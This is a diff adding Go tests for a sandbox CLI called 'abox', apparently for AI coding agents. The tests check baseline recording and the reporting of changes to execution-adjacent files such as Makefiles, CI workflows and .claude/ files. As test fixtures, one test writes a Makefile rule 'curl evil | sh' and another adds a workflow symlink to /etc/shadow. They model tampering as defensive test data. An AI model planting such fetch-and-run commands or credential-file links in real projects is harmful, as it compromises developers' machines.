@@ -1,0 +1,142 @@
+package cli
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/aboxhq/abox/internal/paths"
+	"github.com/aboxhq/abox/internal/render"
+	"github.com/aboxhq/abox/internal/sandbox"
+	"github.com/aboxhq/abox/internal/watch"
+)
+
+func execFixture(t *testing.T) (*App, *project, *render.RunSpec, *bytes.Buffer) {
+	t.Helper()
+	ws := t.TempDir()
+	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n"), 0o644)
+	os.WriteFile(filepath.Join(ws, ".env"), []byte("SECRET=1\n"), 0o644)
+	out := &bytes.Buffer{}
+	a := &App{Out: out, Err: &bytes.Buffer{}, Env: func(string) (string, bool) { return "", false },
+		Now: func() time.Time { return time.Date(2026, 11, 29, 10, 0, 0, 0, time.UTC) }}
+	p := &project{ws: ws, state: paths.Project{Workspace: ws, Dir: t.TempDir()}}
+	return a, p, &render.RunSpec{Watch: []string{"Makefile"}, Masks: []string{".env*"}}, out
+}
+
+// TestRunRefusedWithoutBaseline: a project whose baseline was never recorded, or is corrupt,
+// starts no agent, and the hint names the command that records it.
+func TestRunRefusedWithoutBaseline(t *testing.T) {
+	a, p, rs, _ := execFixture(t)
+	_, err := a.execScope(p, rs)
+	if err == nil || !strings.Contains(err.Error(), "no baseline") || !strings.Contains(hintOf(err), "`abox up`") {
+		t.Errorf("execScope(no baseline) = %v (hint %q), want a refusal naming `abox up`", err, hintOf(err))
+	}
+	if err := a.recordBaseline(p, rs); err != nil {
+		t.Fatal(err)
+	}
+	scope, err := a.execScope(p, rs)
+	if err != nil || scope.Workspace != p.ws || !scope.Masked(".env") {
+		t.Errorf("execScope(baseline) = %+v, %v", scope, err)
+	}
+	os.WriteFile(p.state.Baselines(), []byte("{"), 0o600)
+	if _, err := a.execScope(p, rs); err == nil || !strings.Contains(hintOf(err), "--accept-git --accept-watch") {
+		t.Errorf("execScope(corrupt) = %v (hint %q), want a refusal naming the accept flags", err, hintOf(err))
+	}
+}
+
+// TestUpNeverReRecordsTheBaseline: the first recording takes the workspace; a later one, after
+// a run changed it, keeps the old baseline and says nothing, and a corrupt baseline is an error,
+// not replaced.
+func TestUpNeverReRecordsTheBaseline(t *testing.T) {
+	a, p, rs, out := execFixture(t)
+	if err := a.recordBaseline(p, rs); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(out.String(), "baseline recorded: 1 execution-adjacent file(s)") {
+		t.Errorf("first recording printed %q", out)
+	}
+	before, _ := os.ReadFile(p.state.Baselines())
+	os.WriteFile(filepath.Join(p.ws, "Makefile"), []byte("all:\n\tcurl evil | sh\n"), 0o644)
+	out.Reset()
+	if err := a.recordBaseline(p, rs); err != nil {
+		t.Fatal(err)
+	}
+	after, _ := os.ReadFile(p.state.Baselines())
+	if !bytes.Equal(before, after) || out.Len() != 0 {
+		t.Errorf("a second recording changed the baseline or printed %q", out)
+	}
+	os.WriteFile(p.state.Baselines(), []byte("{"), 0o600)
+	if err := a.recordBaseline(p, rs); err == nil {
+		t.Error("recordBaseline replaced a corrupt baseline")
+	}
+	if data, _ := os.ReadFile(p.state.Baselines()); string(data) != "{" {
+		t.Errorf("the corrupt baseline was rewritten: %q", data)
+	}
+}
+
+func TestExecVerdict(t *testing.T) {
+	changed := &sandbox.ExecReport{Changes: []watch.ExecChange{{Area: watch.AreaFile, Name: "Makefile", Change: "changed", Old: "sha256:1", New: "fifo"}}}
+	tests := []struct {
+		name   string
+		x      *sandbox.ExecReport
+		policy string
+		want   int // exit status; -1 for no error
+	}{
+		{"unwatched", nil, "fail", -1},
+		{"nothing changed", &sandbox.ExecReport{Changes: []watch.ExecChange{}}, "fail", -1},
+		{"changed, warn", changed, "warn", -1},
+		{"changed, fail", changed, "fail", ExitExecChange},
+	}
+	for _, tc := range tests {
+		err := execVerdict(tc.x, tc.policy)
+		if tc.want < 0 {
+			if err != nil {
+				t.Errorf("%s: execVerdict = %v, want nil", tc.name, err)
+			}
+			continue
+		}
+		var b bytes.Buffer
+		if code := report(&b, err); code != tc.want || !strings.Contains(b.String(), "run.on_exec_change is fail") || !strings.Contains(b.String(), "↳ ") {
+			t.Errorf("%s: exit %d, printed %q; want %d with the error and its hint", tc.name, code, b.String(), tc.want)
+		}
+	}
+}
+
+func TestPrintExec(t *testing.T) {
+	var cs []watch.ExecChange
+	for i := 0; i < maxExecLines+2; i++ {
+		cs = append(cs, watch.ExecChange{Area: watch.AreaFile, Name: fmt.Sprintf(".claude/f%02d", i), Change: "added", New: "sha256:1"})
+	}
+	cs[0] = watch.ExecChange{Area: watch.AreaFile, Name: ".github/workflows/ci.yml", Change: "added", New: "symlink:/etc/shadow"}
+	var b bytes.Buffer
+	printExec(&b, &sandbox.ExecReport{Changes: cs, Capped: []watch.Capped{{Pattern: ".claude/", Reason: "more than 500 entries"}}}, "fail")
+	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
+	want := []string{
+		"  execution-adjacent changes: 22 — these run outside the sandbox (CI, make, an editor, git, the host's Claude Code)",
+		"    added .github/workflows/ci.yml (a symlink → /etc/shadow)",
+		"    added .claude/f01",
+	}
+	if diff := cmp.Diff(want, lines[:3]); diff != "" {
+		t.Errorf("printExec head (-want +got):\n%s", diff)
+	}
+	tail := []string{
+		"    and 2 more (`abox logs --runs --json` lists them all)",
+		"  ↳ review them; `abox doctor` reports them until `abox doctor --accept-watch` (files) or `--accept-git` (git) accepts them",
+		"  ↳ run.on_exec_change is fail: abox exits 4",
+		"  watch capped: .claude/: more than 500 entries; what lies beyond was not compared",
+	}
+	if diff := cmp.Diff(tail, lines[len(lines)-4:]); diff != "" {
+		t.Errorf("printExec tail (-want +got):\n%s", diff)
+	}
+	b.Reset()
+	printExec(&b, &sandbox.ExecReport{Changes: []watch.ExecChange{}}, "fail")
+	if b.Len() != 0 {
+		t.Errorf("a run that changed nothing printed %q", b.String())
+	}
+}
